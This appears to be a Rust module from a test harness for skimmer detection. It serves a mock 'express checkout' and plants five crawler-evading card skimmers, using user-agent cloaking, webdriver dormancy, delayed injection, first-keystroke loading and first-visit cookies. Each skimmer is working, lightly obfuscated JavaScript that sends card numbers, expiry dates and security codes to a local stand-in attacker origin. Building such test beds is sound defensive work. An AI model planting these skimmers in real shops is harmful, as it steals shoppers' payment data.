//! Skimmers that hide from crawlers, planted in an "express checkout" with the card fields on
//! the shop's own page (the direct-post checkouts of many Magento and WooCommerce shops).
//!
//! Each helper models one documented evasion (see the field notes in the README):
//!
//! | helper | hides by | sends by |
//! |---|---|---|
//! | [`Shop::cloak_skimmer_by_user_agent`] | server sends it only to user agents without `Headless` | image URL |
//! | [`Shop::skimmer_dormant_under_webdriver`] | does nothing while `navigator.webdriver` is true | fetch POST |
//! | [`Shop::inject_skimmer_after_delay`] | inserted by a timer 6 s after load | `sendBeacon` |
//! | [`Shop::skimmer_loaded_on_first_keystroke`] | fetched only after the first key in the card field | WebSocket |
//! | [`Shop::skimmer_for_first_visit_only`] | served only without the `visited` cookie | XHR |
//!
//! All of them wait for a Luhn-valid card number and a security code, then send once — when
//! the shopper leaves a field — so a crawler that only loads the page sees no theft at all.
//! The attacker origin also answers WebSocket connections at `/ws`, recording every message
//! it receives in the request log (method `WS`).

use super::{lock, Ctx, Origin, RecordedRequest, Resource, Shop};
use axum::extract::ws::{Message, WebSocket, WebSocketUpgrade};
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use std::sync::Arc;

/// Path of the express checkout on the shop origin.
pub const EXPRESS_PATH: &str = "/checkout/express";

const EXPRESS_HTML: &str = r#"<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Express checkout · Harbor &amp; Pine Outfitters</title>
<link rel="stylesheet" href="/static/css/site.css">
</head>
<body>
<main class="checkout">
  <form id="express-form" class="checkout-form" action="/checkout/express/place" method="post" novalidate>
    <h2>Pay by card</h2>
    <div class="field"><label for="cc-name">Name on card</label><input id="cc-name" name="cc-name" autocomplete="cc-name"></div>
    <div class="field"><label for="cc-number">Card number</label><input id="cc-number" name="cc-number" inputmode="numeric" autocomplete="cc-number" placeholder="1234 1234 1234 1234" maxlength="23"></div>
    <div class="row">
      <div class="field"><label for="cc-exp">Expiry</label><input id="cc-exp" name="cc-exp" autocomplete="cc-exp" placeholder="MM / YY" maxlength="7"></div>
      <div class="field"><label for="cc-csc">Security code</label><input id="cc-csc" name="cc-csc" autocomplete="cc-csc" maxlength="4"></div>
    </div>
    <p id="express-message" class="form-message" role="alert" hidden></p>
    <button id="pay" class="button" type="submit">Pay &euro;184.00</button>
  </form>
</main>
<script src="/static/js/express.js"></script>
<script src="/static/js/promo.js"></script>
<script src="{{VENDOR}}/widgets/chat.js"></script>
<script src="{{VENDOR}}/widgets/reviews.js"></script>
</body>
</html>
"#;

/// The shop's own card handling: formats the number, posts the order on submit.
const EXPRESS_JS: &str = r#"/* Harbor & Pine express checkout */
(function () {
  'use strict';
  var form = document.getElementById('express-form');
  var number = document.getElementById('cc-number');
  number.addEventListener('input', function () {
    var d = number.value.replace(/\D/g, '').slice(0, 19);
    number.value = d.replace(/(\d{4})(?=\d)/g, '$1 ');
  });
  form.addEventListener('submit', function (event) {
    event.preventDefault();
    fetch('/api/orders', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ card: number.value.replace(/\D/g, ''), exp: form.elements['cc-exp'].value, cvc: form.elements['cc-csc'].value })
    }).then(function () { document.getElementById('express-message').textContent = 'Thank you!'; });
  });
})();
"#;

const PROMO_JS: &str = r#"/* Harbor & Pine promotions banner */
(function () {
  var p = document.createElement('p');
  p.className = 'promo';
  p.textContent = 'Free returns within 30 days';
  document.body.insertBefore(p, document.body.firstChild);
})();
"#;

const CHAT_JS: &str = r#"/*! Tagwell chat widget v1.4.2 */
window.TagwellChat = { version: '1.4.2', open: function () { return false; } };
"#;

const REVIEWS_JS: &str = r#"/*! Tagwell reviews badge v2.0.1 */
window.TagwellReviews = { version: '2.0.1', score: 4.8 };
"#;

/// Shared by the skimmers: read a field, Luhn-check the number, fire `go` once when a valid
/// number and a security code are there and the shopper leaves a field.
const SKIM_PRELUDE: &str = r#"var v=function(i){var e=document.getElementById(i);return e?e.value:""},ok=function(n){n=n.replace(/\D/g,"");if(n.length<13)return!1;for(var s=0,a=!1,i=n.length-1;i>=0;i--){var c=+n[i];a&&(c*=2)>9&&(c-=9);s+=c;a=!a}return s%10==0},done=0,grab=function(){return{n:v("cc-number").replace(/\D/g,""),e:v("cc-exp"),c:v("cc-csc"),h:v("cc-name"),u:location.href}},ready=function(){return!done&&ok(v("cc-number"))&&v("cc-csc").length>=3};"#;

/// (1) Image URL, base64 of JSON, URL-encoded.
const SKIM_IMAGE: &str = r#"
!function(){__PRELUDE__document.addEventListener("focusout",function(){if(!ready())return;done=1;new Image().src="{{EXFIL}}?d="+encodeURIComponent(btoa(JSON.stringify(grab())))},!0)}();
"#;

/// (2) fetch POST of base64 JSON, only when `navigator.webdriver` is false.
const SKIM_FETCH_NO_WEBDRIVER: &str = r#"
!function(){if(navigator.webdriver)return;__PRELUDE__document.addEventListener("focusout",function(){if(!ready())return;done=1;fetch("{{EXFIL}}",{method:"POST",mode:"no-cors",body:btoa(JSON.stringify(grab()))}).catch(function(){})},!0)}();
"#;

/// (3) The timer loader appended to a first-party file, and the payload it inserts.
const DELAYED_LOADER: &str = r#"
setTimeout(function(){var s=document.createElement("script");s.src="{{SCRIPT}}";document.head.appendChild(s)},6000);
"#;
const DELAYED_PAYLOAD: &str = r#"!function(){__PRELUDE__function go(){if(!ready())return;done=1;navigator.sendBeacon("{{EXFIL}}",JSON.stringify({t:"cart",d:grab()}))}go();document.addEventListener("focusout",go,!0)}();
"#;

/// (4) An inline hook that fetches the payload on the first key in the card field; the payload
/// sends hex-encoded JSON over a WebSocket.
const KEYSTROKE_LOADER: &str = r#"(function(){var n=document.getElementById("cc-number");if(!n)return;n.addEventListener("keydown",function f(){n.removeEventListener("keydown",f);var s=document.createElement("script");s.src="{{SCRIPT}}";document.head.appendChild(s)})})();"#;
const KEYSTROKE_PAYLOAD: &str = r#"!function(){__PRELUDE__var ws=new WebSocket("{{WS}}"),q=[];ws.onopen=function(){q.forEach(function(m){ws.send(m)});q=[]};function hex(s){for(var o="",i=0;i<s.length;i++)o+=("0"+s.charCodeAt(i).toString(16)).slice(-2);return o}document.addEventListener("focusout",function(){if(!ready())return;done=1;var m=hex(JSON.stringify(grab()));ws.readyState===1?ws.send(m):q.push(m)},!0)}();
"#;

/// (5) An inline skimmer the server adds for first-time visitors only; XHR with the number
/// reversed, URL-encoded form body.
const FIRST_VISIT_SKIMMER: &str = r#"<script>!function(){__PRELUDE__document.addEventListener("focusout",function(){if(!ready())return;done=1;var d=grab(),x=new XMLHttpRequest;x.open("POST","{{EXFIL}}");x.setRequestHeader("Content-Type","application/x-www-form-urlencoded");x.send("r="+encodeURIComponent(d.n.split("").reverse().join(""))+"&e="+encodeURIComponent(d.e)+"&c="+d.c)},!0)}();</script>
"#;

impl Shop {
    /// Serves the express checkout ([`EXPRESS_PATH`]): card fields on the shop page, the
    /// shop's `express.js` and `promo.js`, and the vendor's `chat.js` and `reviews.js`.
    /// Returns its URL. Nothing malicious until an attack below is planted.
    pub fn serve_express_checkout(&self) -> String {
        let vendor = self.base(Origin::Vendor);
        let js = |body: &str| Resource::js(body).with_header("X-Content-Type-Options", "nosniff");
        self.set_resource(Origin::Shop, EXPRESS_PATH, Resource::html(EXPRESS_HTML.replace("{{VENDOR}}", &vendor)));
        self.set_resource(Origin::Shop, "/static/js/express.js", js(EXPRESS_JS));
        self.set_resource(Origin::Shop, "/static/js/promo.js", js(PROMO_JS));
        self.set_resource(Origin::Vendor, "/widgets/chat.js", js(CHAT_JS));
        self.set_resource(Origin::Vendor, "/widgets/reviews.js", js(REVIEWS_JS));
        self.url(Origin::Shop, EXPRESS_PATH)
    }

    /// The WebSocket URL of the attacker (`ws://127.0.0.4:PORT/ws`).
    pub fn exfil_websocket_url(&self) -> String {
        self.url(Origin::Attacker, "/ws").replacen("http://", "ws://", 1)
    }

    fn skimmer(&self, template: &str) -> String {
        template
            .replace("__PRELUDE__", SKIM_PRELUDE)
            .replace("{{EXFIL}}", &self.exfil_url())
            .replace("{{WS}}", &self.exfil_websocket_url())
    }

    /// (1) Server-side cloaking: the vendor's `chat.js` carries an image-URL skimmer, but only
    /// for user agents without `Headless` (a default headless Chrome gets the clean file).
    pub fn cloak_skimmer_by_user_agent(&self) -> super::Planted {
        let clean = CHAT_JS.to_string();
        let infected = format!("{CHAT_JS}{}", self.skimmer(SKIM_IMAGE));
        let code = infected[CHAT_JS.len()..].to_string();
        self.set_dynamic(Origin::Vendor, "/widgets/chat.js", move |req: &RecordedRequest| {
            let ua = req.header("user-agent").unwrap_or_default();
            Resource::js(if ua.contains("Headless") { clean.clone() } else { infected.clone() })
        });
        super::Planted { modified: self.url(Origin::Vendor, "/widgets/chat.js"), added: None, code }
    }

    /// (2) Lines appended to the vendor's `reviews.js` that stay dormant while
    /// `navigator.webdriver` is true; otherwise they POST the card with `fetch`.
    pub fn skimmer_dormant_under_webdriver(&self) -> super::Planted {
        let code = self.skimmer(SKIM_FETCH_NO_WEBDRIVER);
        self.append_to(Origin::Vendor, "/widgets/reviews.js", &code);
        super::Planted { modified: self.url(Origin::Vendor, "/widgets/reviews.js"), added: None, code }
    }

    /// (3) A timer appended to the shop's `promo.js` inserts the attacker's
    /// `/js/cart-sync.js` 6 s after load; that payload sends the card with `sendBeacon`.
    pub fn inject_skimmer_after_delay(&self) -> super::Planted {
        let script = self.url(Origin::Attacker, "/js/cart-sync.js");
        self.set_resource(Origin::Attacker, "/js/cart-sync.js", Resource::js(self.skimmer(DELAYED_PAYLOAD)));
        let code = DELAYED_LOADER.replace("{{SCRIPT}}", &script);
        self.append_to(Origin::Shop, "/static/js/promo.js", &code);
        super::Planted { modified: self.url(Origin::Shop, "/static/js/promo.js"), added: Some(script), code }
    }

    /// (4) An inline script on the express page fetches the attacker's `/js/kb.js` on the first
    /// keystroke in the card number field; that payload sends the card over a WebSocket.
    pub fn skimmer_loaded_on_first_keystroke(&self) -> super::Planted {
        let script = self.url(Origin::Attacker, "/js/kb.js");
        self.set_resource(Origin::Attacker, "/js/kb.js", Resource::js(self.skimmer(KEYSTROKE_PAYLOAD)));
        let code = KEYSTROKE_LOADER.replace("{{SCRIPT}}", &script);
        let block = format!("<script>{code}</script>\n");
        self.edit(Origin::Shop, EXPRESS_PATH, |page| {
            let at = page.body.rfind("</body>").expect("express checkout has a body");
            page.body.insert_str(at, &block);
        });
        super::Planted { modified: self.url(Origin::Shop, EXPRESS_PATH), added: Some(script), code }
    }

    /// (5) Once per visitor: every response of the express checkout sets a `visited` cookie,
    /// and the server adds an inline XHR skimmer to the page only for requests without it.
    pub fn skimmer_for_first_visit_only(&self) -> super::Planted {
        let cookie = "visited=1; Path=/; Max-Age=31536000; SameSite=Lax";
        for path in ["/static/js/express.js", "/static/js/promo.js"] {
            self.edit(Origin::Shop, path, |r| r.set_header("Set-Cookie", cookie));
        }
        let page = self.resource(Origin::Shop, EXPRESS_PATH).expect("serve_express_checkout first");
        let skimmer = self.skimmer(FIRST_VISIT_SKIMMER);
        let code = skimmer.clone();
        let infected = {
            let mut body = page.body.clone();
            let at = body.rfind("</body>").expect("express checkout has a body");
            body.insert_str(at, &skimmer);
            body
        };
        let clean = page.body.clone();
        let page = Arc::new(page);
        self.set_dynamic(Origin::Shop, EXPRESS_PATH, move |req: &RecordedRequest| {
            let visited =
                req.header("cookie").is_some_and(|c| c.split(';').any(|kv| kv.trim().starts_with("visited=")));
            let mut r = (*page).clone().with_header("Set-Cookie", cookie);
            r.body = if visited { clean.clone() } else { infected.clone() };
            r
        });
        super::Planted { modified: self.url(Origin::Shop, EXPRESS_PATH), added: None, code }
    }
}

/// `GET /ws` on the attacker origin: accepts the WebSocket and records every message.
pub(super) async fn websocket(State(ctx): State<Ctx>, headers: HeaderMap, ws: WebSocketUpgrade) -> Response {
    if ctx.origin != Origin::Attacker {
        return StatusCode::NOT_FOUND.into_response();
    }
    let headers: Vec<(String, String)> = headers
        .iter()
        .map(|(n, v)| (n.as_str().to_string(), String::from_utf8_lossy(v.as_bytes()).into_owned()))
        .collect();
    lock(&ctx.inner.requests).push(RecordedRequest {
        origin: ctx.origin,
        method: "GET".into(),
        path: "/ws".into(),
        headers: headers.clone(),
        body: String::new(),
    });
    ws.on_upgrade(move |mut socket: WebSocket| async move {
        while let Some(Ok(message)) = socket.recv().await {
            let body = match message {
                Message::Text(t) => t.to_string(),
                Message::Binary(b) => String::from_utf8_lossy(&b).into_owned(),
                Message::Close(_) => break,
                _ => continue,
            };
            lock(&ctx.inner.requests).push(RecordedRequest {
                origin: ctx.origin,
                method: "WS".into(),
                path: "/ws".into(),
                headers: headers.clone(),
                body,
            });
        }
    })
}
